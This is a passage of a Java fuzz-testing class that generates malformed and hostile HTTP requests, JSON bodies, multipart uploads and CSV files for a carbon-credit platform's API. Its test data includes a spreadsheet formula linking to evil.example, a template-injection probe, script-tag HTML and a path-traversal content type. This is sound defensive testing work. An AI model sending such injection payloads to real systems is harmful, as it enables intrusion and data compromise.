        slot.set(new Arr());
        defect(where + ": empty", s.path("minItems").asInt(0) > 0 && !ridersOnly);
      } else if (k == 2) {
        Arr a = new Arr();
        a.items().add(RawJson.NULL);
        a.items().add(plausible(items, "", 2));
        slot.set(a);
        defect(where + ": a null item", false);
      } else {
        Arr a = new Arr();
        a.items().add(ridersOnly ? plausible(items, "", 2) : RawJson.str("not an item"));
        slot.set(a);
        defect(where + ": " + (ridersOnly ? "one item" : "an item of the wrong type"),
            !ridersOnly && !"any".equals(typeOf(items)));
      }
    }

    RawJson wrongType(String type) {
      return switch (type) {
        case "string" -> pick(List.of(new Obj(), new Arr(new ArrayList<>(List.of(RawJson.lit("1"))))));
        case "integer", "number" -> pick(List.of(RawJson.str("abc"), new Obj(), new Arr()));
        case "boolean" -> pick(List.of(new Obj(), new Arr(), RawJson.str("perhaps")));
        case "array" -> pick(List.of(RawJson.str("x"), RawJson.lit("5"), new Obj()));
        default -> pick(List.of(RawJson.str("x"), RawJson.lit("5"), new Arr(), RawJson.lit("true")));
      };
    }

    RawJson hostileValue() {
      return switch (r.nextInt(8)) {
        case 0 -> RawJson.str(pick(INJECTIONS));
        case 1 -> RawJson.lit(pick(List.of("1e308", "-1e308", "1e400", "-0", "1" + "0".repeat(500))));
        case 2 -> RawJson.str(pick(List.of("NaN", "Infinity", "-Infinity", "1e308")));
        case 3 -> new Obj(new ArrayList<>(List.of(new Member("a", new Arr(new ArrayList<>(List.of(new Obj())))))));
        case 4 -> RawJson.str(pick(CONTROLS));
        case 5 -> RawJson.NULL;
        case 6 -> RawJson.lit(pick(List.of("true", "-1", "0", "2147483648")));
        default -> RawJson.str(ONE_MB.substring(0, 10_000));
      };
    }

    // ---- multipart bodies

    void multipartBody() {
      boundary = "----fuzz" + Long.toHexString(r.nextLong());
      parts = new ArrayList<>();
      JsonNode props = op.body().schema().path("properties");
      Set<String> required = new HashSet<>();
      op.body().schema().path("required").forEach(n -> required.add(n.asText()));
      props.fields().forEachRemaining(e -> {
        JsonNode s = e.getValue();
        String name = e.getKey();
        if (!required.contains(name) && r.nextInt(3) == 0) {
          return;
        }
        if ("binary".equals(s.path("format").asText()) || "binary".equals(s.path("items").path("format").asText())) {
          int n = s.path("type").asText().equals("array") ? 1 + r.nextInt(2) : 1;
          for (int i = 0; i < n; i++) {
            parts.add(file(name));
          }
        } else if (s.has("properties")) {
          Part part = new Part(name, null, "application/json", null);
          part.json = plausible(s, name, 0);
          parts.add(part);
        } else {
          parts.add(new Part(name, null, r.nextBoolean() ? "text/plain;charset=UTF-8" : null,
              plausibleText(s, name).getBytes(StandardCharsets.UTF_8)));
        }
      });
      int k = r.nextInt(100);
      if (k < 12) {
        multipartFlaw();
      } else if (k < 22 && !required.isEmpty()) {
        String name = pick(new ArrayList<>(required));
        parts.removeIf(p -> p.name.equals(name));
        defect("multipart: part " + name + " missing", true);
      } else if (k < 30) {
        Part json = parts.stream().filter(p -> p.json != null).findFirst().orElse(null);
        if (json != null) {
          json.contentType = pick(Arrays.asList("text/plain", null, "application/xml", "application/octet-stream"));
          defect("multipart: part " + json.name + " as " + json.contentType, true);
        } else {
          filePartRiders();
        }
      } else {
        Part json = parts.stream().filter(p -> p.json != null).findFirst().orElse(null);
        JsonNode schema = json == null ? null : props.get(json.name);
        if (json != null && r.nextInt(3) > 0) {
          int mutations = 1 + r.nextInt(2);
          for (int i = 0; i < mutations; i++) {
            mutateSomewhere(json.json, schema, false);
          }
        }
        Part text = parts.stream().filter(p -> p.json == null && p.filename == null).findFirst().orElse(null);
        if (text != null && r.nextBoolean()) {
          textPart(text, props.get(text.name), required.contains(text.name));
        }
        filePartRiders();
      }
      if (r.nextInt(30) == 0) {
        for (int i = 0; i < 60; i++) {
          parts.add(new Part("extra" + i, null, null, "x".getBytes(StandardCharsets.US_ASCII)));
        }
        defect("multipart: 60 extra parts", true);
      } else if (r.nextInt(15) == 0) {
        parts.add(new Part(pick(List.of("unknown", "application", "__proto__", "")), null, "application/json",
            "{\"status\":\"REGISTERED\"}".getBytes(StandardCharsets.UTF_8)));
        defect("multipart: an extra part", false);
      }
    }

    void textPart(Part text, JsonNode schema, boolean required) {
      int k = r.nextInt(6);
      switch (k) {
        case 0 -> {
          text.content = new byte[0];
          defect("multipart: part " + text.name + " empty", required);
        }
        case 1 -> {
          text.content = "说".repeat(4001 + r.nextInt(100)).getBytes(StandardCharsets.UTF_8);
          defect("multipart: part " + text.name + " over 4000 characters", true);
        }
        case 2 -> {
          text.content = concat("补正".getBytes(StandardCharsets.UTF_8), pick(INVALID_UTF8));
          defect("multipart: part " + text.name + " with invalid UTF-8", false);
        }
        case 3 -> {
          text.content = ("补正说明" + pick(CONTROLS)).getBytes(StandardCharsets.UTF_8);
          defect("multipart: part " + text.name + " with control characters", false);
        }
        case 4 -> {
          text.content = "   \n\t ".getBytes(StandardCharsets.UTF_8);
          defect("multipart: part " + text.name + " blank", required);
        }
        default -> {
          text.content = pick(INJECTIONS).getBytes(StandardCharsets.UTF_8);
          defect("multipart: part " + text.name + " injection text", false);
        }
      }
    }

    Part file(String name) {
      String filename = pick(List.of("设计文件.pdf", "plan.docx", "trips.csv", "附件.zip"));
      String type = pick(List.of("application/pdf", "text/csv", "application/octet-stream",
          "application/vnd.openxmlformats-officedocument.wordprocessingml.document"));
      byte[] content = name.equals("file") ? activityCsv() : ("%PDF-1.4 fuzz " + r.nextInt())
          .getBytes(StandardCharsets.US_ASCII);
      return new Part(name, filename.getBytes(StandardCharsets.UTF_8), type, content);
    }

    void filePartRiders() {
      for (Part p : parts) {
        if (p.filename == null || r.nextInt(3) > 0) {
          continue;
        }
        int k = r.nextInt(5);
        switch (k) {
          case 0 -> {
            String f = pick(HOSTILE_FILENAMES);
            p.filename = f.getBytes(StandardCharsets.UTF_8);
            defect("file " + p.name + ": name \"" + abridge(printable(f), 40) + "\"", false);
          }
          case 1 -> {
            p.content = new byte[0];
            defect("file " + p.name + ": empty", false);
          }
          case 2 -> {
            p.contentType = pick(List.of("text/html", "application/x-msdownload", "garbage", "", "/",
                "text/html; charset=\"><script>", "application/pdf; name=../../x"));
            defect("file " + p.name + ": content type \"" + p.contentType + "\"", false);
          }
          case 3 -> {
            if (p.name.equals("file")) {
              p.content = activityCsv();
              defect("file " + p.name + ": another hostile CSV", false);
            } else if (r.nextInt(4) == 0) {
              p.content = oversized();
              defect("file " + p.name + ": " + p.content.length + " bytes (over 20 MB)", true);
            } else {
              p.content = concat(pick(INVALID_UTF8), "<html><script>alert(1)</script>".getBytes(StandardCharsets.UTF_8));
              defect("file " + p.name + ": HTML with invalid UTF-8", false);
            }
          }
          default -> {
            p.filename = concat("报告".getBytes(StandardCharsets.UTF_8), pick(INVALID_UTF8));
            defect("file " + p.name + ": name with invalid UTF-8", false);
          }
        }
      }
    }

    /** Trip records with hostile rows; a well-formed file is not the point (and the id decides first). */
    byte[] activityCsv() {
      StringBuilder csv = new StringBuilder();
      List<String> headers = List.of("participant_id,trip_id,mode,distance_km,timestamp",
          "\uFEFFparticipant_id,trip_id,mode,distance_km,timestamp", "participant_id;trip_id;mode",
          "=HYPERLINK(\"http://evil.example\"),trip_id,mode,distance_km,timestamp", "");
      csv.append(pick(headers)).append("\r\n");
      int rows = r.nextInt(6);
      for (int i = 0; i < rows; i++) {
        String participant = r.nextBoolean() ? "u" + r.nextInt(1000) : pick(INJECTIONS).replace("\r\n", " ");
        String trip = r.nextBoolean() ? "FUZZ-" + r.nextLong() : pick(List.of("", "\"unbalanced", "a,b", "${7*7}"));
        String mode = pick(List.of("bus", "rail", "bicycle", "walk", "car", "BUS", "=1+1", ""));
        String km = pick(List.of("12.5", "-1", "0", "NaN", "Infinity", "1e308", "", "abc", "5e-400", "501"));
        String ts = pick(List.of("2024-05-01T08:00:00+08:00", "+999999999-12-31T23:59:59Z", "2024-13-01T00:00:00Z",
            "yesterday", "", "1970-01-01T00:00:00Z", "2024-05-01T08:00:00"));
        csv.append(String.join(",", participant, trip, mode, km, ts)).append(r.nextInt(10) == 0 ? "\n" : "\r\n");
      }
      if (r.nextInt(8) == 0) {
        csv.append("u1,").append("T".repeat(100_000)).append(",bus,1,2024-05-01T08:00:00+08:00\r\n");
      }
      byte[] bytes = csv.toString().getBytes(StandardCharsets.UTF_8);
      return r.nextInt(10) == 0 ? concat(bytes, pick(INVALID_UTF8)) : bytes;
    }

    void multipartFlaw() {
      multipartFlaw(false);
    }

    void multipartFlaw(boolean fatalOnly) {
      List<String> flaws = new ArrayList<>(List.of("no closing delimiter", "boundary mismatch",
          "no boundary parameter", "garbage body", "part without Content-Disposition", "truncated", "LF line endings",
          "empty body"));
      // legal ones: a quoted boundary, and a long one (RFC 2046 says 70 characters at most, parsers take more)
      List<String> legal = List.of("boundary longer than 70 characters", "quoted boundary with spaces");
      if (!fatalOnly) {
        flaws.addAll(legal);
      }
      multipartFlaw = pick(flaws);
      defect("malformed multipart: " + multipartFlaw, !legal.contains(multipartFlaw));
    }

    void wrongContentType() {
      if (op.body().multipart()) {
        contentType = pick(List.of("application/json", "text/plain", "", "multipart/mixed; boundary=" + boundary,
            "application/x-www-form-urlencoded", "multipart/form-data", "multipart/form-data; boundary="));
        if (contentType.equals("application/json")) {
          rawBody = "{\"name\":\"x\"}".getBytes(StandardCharsets.UTF_8);
        }
      } else if (r.nextInt(4) == 0) {
        contentType = pick(LABELLED_JSON_CONTENT_TYPES);
        defect("Content-Type: \"" + contentType + "\"", false);
        return;
      } else {
        contentType = pick(WRONG_JSON_CONTENT_TYPES);
      }
      defect("Content-Type: \"" + contentType + "\"", true);
    }

    void wrongMethod() {
      String m = pick(List.of("PUT", "DELETE", "PATCH", "TRACE", "FOO", "GET", "POST"));
      if (op.methodsOfPath().contains(m)) {
        return;
      }
      method = m;
      defect("method " + m + " (the path has " + op.methodsOfPath() + ")", true);
    }

    /** A write whose draw gave no fatal defect gets one (keeping the drawn defects as riders). */
    void forceFatal() {
      List<Runnable> ways = new ArrayList<>();
      if (op.body() != null && !op.body().multipart() && json != null && rawBody == null) {
        ways.add(() -> {
          List<Slot> slots = new ArrayList<>();
          collect(json, op.body().schema(), "", slots);
          slots.removeIf(s -> touched.contains(s.path()));
          if (slots.isEmpty()) {
            rawBody = "{\"unterminated\":".getBytes(StandardCharsets.UTF_8);
            defect("malformed JSON", true);
            return;
          }
          Slot slot = pick(slots);
          touched.add(slot.path());
          slot.set(wrongType(typeOf(slot.schema())));
          defect("body " + slot.path() + ": wrong JSON type [fatal]", true);
        });
      }
      if (op.body() != null && op.body().multipart() && parts != null) {
        ways.add(() -> {
          Part json = parts.stream().filter(p -> p.json != null).findFirst().orElse(null);
          if (json != null && r.nextBoolean()) {
            List<Slot> slots = new ArrayList<>();
            collect(json.json, op.body().schema().path("properties").path(json.name), "", slots);
            slots.removeIf(s -> touched.contains(s.path()));
            if (!slots.isEmpty()) {
              Slot slot = pick(slots);
              touched.add(slot.path());
              slot.set(wrongType(typeOf(slot.schema())));
              defect("part " + json.name + " " + slot.path() + ": wrong JSON type", true);
              return;
            }
          }
          multipartFlaw(true);
        });
      }
      for (ApiOperation.Param p : op.in("path")) {
        if ("integer".equals(p.schema().path("type").asText())) {
          ways.add(() -> {
            String kind = kind(p.name());
            pathValues.put(p.name(), String.valueOf(facts.absent(kind, r.nextLong())));
            defect("path " + p.name() + ": no such " + kind, true);
          });
        }
      }
      if (!op.open()) {
        ways.add(() -> {
          headers.removeIf(h -> h.getKey().equals("Authorization"));
          anonymous = true;
          caller = "anonymous";
          callerDeveloper = null;
          defect("caller: anonymous on an operation that needs a login", true);
        });
      }
      ways.add(() -> {
        String m = pick(List.of("PUT", "DELETE", "PATCH", "FOO"));
        if (op.methodsOfPath().contains(m)) {
          m = "FOO";
        }
        method = m;
        defect("method " + m + " (the path has " + op.methodsOfPath() + ")", true);
      });
      // prefer what leaves the rest of the request as drawn: the first ways are body and path
      int choice = r.nextInt(10) < 8 ? r.nextInt(Math.min(ways.size(), 2)) : r.nextInt(ways.size());
      ways.get(choice).run();
    }

    // ---- assembly

    FuzzRequest finish() {
      String path = op.path();
      for (Map.Entry<String, String> v : pathValues.entrySet()) {
        path = path.replace("{" + v.getKey() + "}", v.getValue());
      }
      String target = path + (query.isEmpty() ? "" : "?" + String.join("&", query));
      byte[] body = null;
      String type = null;
      if (op.body() != null) {
        if (rawBody != null) {
          body = rawBody;
          type = op.body().multipart() ? "multipart/form-data; boundary=" + boundary : "application/json";
        } else if (op.body().multipart()) {
          body = multipartBytes();
          type = multipartContentType();
        } else {
          body = json.bytes();
          type = "application/json";
        }
        if (contentType != null) {
          type = contentType;
        }
      } else if (!method.equals("GET") && op.write()) {
        body = new byte[0];
      }
      if (type != null && !(contentType != null && contentType.isEmpty() && r.nextBoolean())) {
        headers.add(Map.entry("Content-Type", type.getBytes(StandardCharsets.ISO_8859_1)));
      }
      if (body == null && !method.equals("GET") && !method.equals("TRACE")) {
        body = new byte[0];
      }
      return new FuzzRequest(index, op, caller, callerDeveloper, clientAddress(index), method, target,
          List.copyOf(headers), body, List.copyOf(defects), fatal);
    }

    String multipartContentType() {
      if ("no boundary parameter".equals(multipartFlaw)) {
        return "multipart/form-data";
      }
      if ("boundary mismatch".equals(multipartFlaw)) {
        return "multipart/form-data; boundary=" + boundary + "X";
      }
      if ("quoted boundary with spaces".equals(multipartFlaw)) {
        return "multipart/form-data; boundary=\"" + boundary + "\"";
      }
      return "multipart/form-data; boundary=" + boundary;
    }

    byte[] multipartBytes() {
      if ("garbage body".equals(multipartFlaw)) {
        byte[] garbage = new byte[1 + r.nextInt(4096)];
        r.nextBytes(garbage);
        return garbage;
      }
      if ("empty body".equals(multipartFlaw)) {
        return new byte[0];
      }
      if ("boundary longer than 70 characters".equals(multipartFlaw)) {
        boundary = boundary + "b".repeat(200);
      }
      String eol = "LF line endings".equals(multipartFlaw) ? "\n" : "\r\n";
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      boolean first = true;
      for (Part p : parts) {
        out.writeBytes(("--" + boundary + eol).getBytes(StandardCharsets.ISO_8859_1));
        boolean disposition = p.disposition && !(first && "part without Content-Disposition".equals(multipartFlaw));
        if (disposition) {
          out.writeBytes(("Content-Disposition: form-data; name=\"" + p.name + "\"")
              .getBytes(StandardCharsets.UTF_8));
          if (p.filename != null) {
            out.writeBytes("; filename=\"".getBytes(StandardCharsets.ISO_8859_1));
            out.writeBytes(escapeQuotes(p.filename));
            out.writeBytes("\"".getBytes(StandardCharsets.ISO_8859_1));
          }
          out.writeBytes(eol.getBytes(StandardCharsets.ISO_8859_1));
        }
        if (p.contentType != null) {
          out.writeBytes(("Content-Type: " + p.contentType + eol).getBytes(StandardCharsets.UTF_8));
        }
        out.writeBytes(eol.getBytes(StandardCharsets.ISO_8859_1));
        out.writeBytes(p.content());
        out.writeBytes(eol.getBytes(StandardCharsets.ISO_8859_1));
        first = false;
      }
      if (!"no closing delimiter".equals(multipartFlaw)) {
        out.writeBytes(("--" + boundary + "--" + eol).getBytes(StandardCharsets.ISO_8859_1));
      }
      byte[] bytes = out.toByteArray();
      if ("truncated".equals(multipartFlaw) && bytes.length > 2) {
        return Arrays.copyOf(bytes, r.nextInt(bytes.length - 1));
      }
      return bytes;
    }

    // ---- plausible values

    RawJson plausible(JsonNode s, String name, int depth) {
      String type = typeOf(s);
      if (s.has("enum")) {
        return RawJson.str(pick(s.get("enum")).asText());
      }
      switch (type) {
        case "string" -> {
          return RawJson.str(plausibleText(s, name));
        }
        case "integer" -> {
          if (name.endsWith("Id") || name.equals("id")) {
            String kind = kind(name);
            List<Long> ids = facts.of(kind);
            List<Long> own = facts.ownedBy(kind, callerDeveloper);
            List<Long> from = !own.isEmpty() && r.nextBoolean() ? own : ids;
            return RawJson.lit(String.valueOf(from.isEmpty() ? 1L : (long) pick(from)));
          }
          if (name.toLowerCase(java.util.Locale.ROOT).contains("year")) {
            return RawJson.lit(String.valueOf(2022 + r.nextInt(5)));
          }
          long min = s.has("minimum") ? s.get("minimum").asLong() : 1;
          long max = s.has("maximum") ? s.get("maximum").asLong() : 1000;
          return RawJson.lit(String.valueOf(min + Math.floorMod(r.nextLong(), Math.max(1, max - min + 1))));
        }
        case "number" -> {
          double min = s.has("minimum") ? s.get("minimum").asDouble() : 0;
          double max = s.has("maximum") ? s.get("maximum").asDouble() : 10_000;
          double v = min + (Math.min(max, min + 10_000) - min) * r.nextDouble();
          return RawJson.lit(new java.math.BigDecimal(v).setScale(2, java.math.RoundingMode.DOWN).toPlainString());
        }
        case "boolean" -> {
          return RawJson.lit(String.valueOf(r.nextBoolean()));
        }
        case "array" -> {
          Arr a = new Arr();
          int n = depth > 2 ? 0 : 1 + r.nextInt(2);
          for (int i = 0; i < n; i++) {
            a.items().add(plausible(s.path("items"), name, depth + 1));
          }
          return a;
        }
        case "object" -> {
          Obj o = new Obj();
          Set<String> required = new HashSet<>();
          s.path("required").forEach(n -> required.add(n.asText()));
          s.path("properties").fields().forEachRemaining(e -> {
            if (required.contains(e.getKey()) || r.nextInt(10) < 7) {
              o.members().add(new Member(e.getKey(), plausible(e.getValue(), e.getKey(), depth + 1)));
            }
          });
          return o;
        }
        case "map" -> {
          Obj o = new Obj();
          o.members().add(new Member("mode", RawJson.str(pick(List.of("bus", "rail", "bicycle")))));
          o.members().add(new Member("distanceKm", RawJson.lit(String.valueOf(1 + r.nextInt(500)))));
          return o;
        }
        default -> {
          return RawJson.str("x");
        }
      }
    }

    String plausibleText(JsonNode s, String name) {
      String format = s.path("format").asText("");
      if (format.equals("date")) {
        return LocalDate.of(2021 + r.nextInt(9), 1 + r.nextInt(12), 1 + r.nextInt(28)).toString();
      }
      if (format.equals("date-time")) {
        return LocalDate.of(2021 + r.nextInt(9), 1 + r.nextInt(12), 1 + r.nextInt(28)) + "T08:00:00Z";
      }
      if (format.equals("email")) {
        return "fuzz" + r.nextInt(10_000) + "@example.org";
      }
      String reference = referenceKind(name);
      if (reference != null && !facts.references(reference).isEmpty() && r.nextInt(4) > 0) {
        return pick(facts.references(reference));
      }
      if (s.has("pattern")) {
        for (String candidate : List.of("FUZZ-" + r.nextInt(100_000), "BJCI-P-2099-" + (1000 + r.nextInt(9000)),
            "010 6" + (100_0000 + r.nextInt(900_0000)), "91110105MA01ABCD13")) {
          if (matches(s.get("pattern").asText(), candidate)) {
            return candidate;
          }
        }
      }
      int min = Math.max(1, s.path("minLength").asInt(0));
      int max = s.has("maxLength") ? s.get("maxLength").asInt() : 60;
      String text = pick(List.of("公交出行减排说明", "屋顶分布式光伏项目材料", "社区低碳行动", "Fuzz test note",
          "依据方法学核算的减排量说明")) + "-" + r.nextInt(1_000_000);
      while (text.length() < min) {
        text = text + text;
      }
      return text.length() > max ? text.substring(0, Math.max(min, Math.min(max, text.length()))) : text;
    }

    String hostileText() {
      return switch (r.nextInt(4)) {
        case 0, 1 -> pick(INJECTIONS);
        case 2 -> pick(CONTROLS);
        // long, but within the request line the connector takes (8 kB with the other headers)
        default -> "长".repeat(100 + r.nextInt(600));
      };
    }

    <T> T pick(List<T> list) {
      return list.get(r.nextInt(list.size()));
    }

    JsonNode pick(JsonNode array) {
      return array.get(r.nextInt(array.size()));
    }
  }

  // ---- helpers

  /** The kind of resource an id names, from the parameter's or field's name and the path it is in. */
  String kindOf(String name) {
    return switch (name) {
      case "projectId" -> "project";
      case "documentId" -> "document";
      case "changeId" -> "change";
      case "blockId" -> "block";
      case "developerId", "newDeveloperId" -> "developer";
      case "subjectId" -> "developer";
      case "accountNo", "buyerAccountNo" -> "accountNo";
      case "serial" -> "serial";
      default -> "project";
    };
  }

  private String kindFromPath(String path) {
    String[] segments = path.split("/");
    for (int i = segments.length - 1; i > 0; i--) {
      if (segments[i].equals("{id}")) {
        return switch (segments[i - 1]) {
          case "methodologies" -> "methodology";
          case "reduction-applications" -> "reduction";
          case "bars" -> "bar";
          case "transfers" -> "transfer";
          case "issuances" -> "issuance";
          case "retirements" -> "retirement";
          case "developers" -> "developer";
          default -> "project";
        };
      }
    }
    return "project";
  }

  /** Text fields that name something of the platform (so that a plausible value is a real one). */
  static String referenceKind(String name) {
    return switch (name) {
      case "creditCode", "agencyCreditCode", "newDeveloperCreditCode" -> "creditCode";
      case "methodologyCode" -> "methodologyCode";
      case "projectRegistrationNo" -> "registrationNo";
      case "accountNo", "buyerAccountNo" -> "accountNo";
      case "processKey" -> "processKey";
      default -> null;
    };
  }

  static String typeOf(JsonNode s) {
    if (s == null || s.isMissingNode()) {
      return "any";
    }
    String type = s.path("type").asText("");
    if (type.equals("object") && !s.has("properties") && s.has("additionalProperties")) {
      return "map";
    }
    if (type.isEmpty()) {
      return s.has("properties") ? "object" : "any";
    }
    return type;
  }

  /**
   * Whether Jackson and the declared bounds refuse this literal for a field of that type: literals JSON does not have
   * and text that is no number do not parse; a string that is a number is converted; an integer field takes a
   * fraction truncated but refuses what is beyond its range; numbers longer than 1000 digits are refused by Jackson's
   * stream constraints; what is left is compared with the declared minimum and maximum.
   */
  static boolean numberFatal(String literal, boolean integer, boolean int32, Double min, Double max) {
    String text = literal;
    if (text.startsWith("\"")) {
      text = text.substring(1, text.length() - 1);
    } else if (text.equals("NaN") || text.endsWith("Infinity")) {
      return true;
    }
    if (text.length() > 1000) {
      return true;
    }
    java.math.BigDecimal value;
    try {
      value = new java.math.BigDecimal(text);
    } catch (NumberFormatException e) {
      return true;
    }
    if (integer) {
      java.math.BigDecimal whole = value.setScale(0, java.math.RoundingMode.DOWN);
      java.math.BigDecimal limit = java.math.BigDecimal.valueOf(int32 ? Integer.MAX_VALUE : Long.MAX_VALUE);
      java.math.BigDecimal lower = java.math.BigDecimal.valueOf(int32 ? Integer.MIN_VALUE : Long.MIN_VALUE);
      if (whole.compareTo(limit) > 0 || whole.compareTo(lower) < 0) {
        return true;
      }
      value = whole;
    }
    return (min != null && value.compareTo(java.math.BigDecimal.valueOf(min)) < 0)
        || (max != null && value.compareTo(java.math.BigDecimal.valueOf(max)) > 0);
  }

  static boolean matches(String pattern, String value) {
    try {
      return Pattern.matches(pattern, value);
    } catch (PatternSyntaxException e) {
      return false;
    }
  }

  static String encode(String value) {
    return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
  }

  static String plain(double d) {
    return java.math.BigDecimal.valueOf(d).stripTrailingZeros().toPlainString();
  }

  static byte[] concat(byte[] a, byte[] b) {
    byte[] c = Arrays.copyOf(a, a.length + b.length);
    System.arraycopy(b, 0, c, a.length, b.length);
    return c;
  }

  static byte[] escapeQuotes(byte[] filename) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (byte b : filename) {
      if (b == '"' || b == '\\') {
        out.write('\\');
      }
      out.write(b);
    }
    return out.toByteArray();
  }

  static synchronized byte[] oversized() {
    if (oversized == null) {
      oversized = new byte[20 * 1024 * 1024 + 1];
      Arrays.fill(oversized, (byte) 'x');
    }
    return oversized;
  }

  static String abridge(String s, int max) {
    return s.length() <= max ? s : s.substring(0, max) + "…";
  }

  /** Control characters and other invisibles as escapes, so that a report line stays one readable line. */
  static String printable(String s) {
    StringBuilder out = new StringBuilder();
    s.codePoints().forEach(c -> {
      if (c < 0x20 || c == 0x7f || (c >= 0x80 && c < 0xa0) || Character.getType(c) == Character.FORMAT
          || Character.getType(c) == Character.SURROGATE || c == 0x2028 || c == 0x2029) {
        out.append(String.format("\\u%04x", c));
      } else {
        out.appendCodePoint(c);
      }
    });
    return out.toString();
  }
}
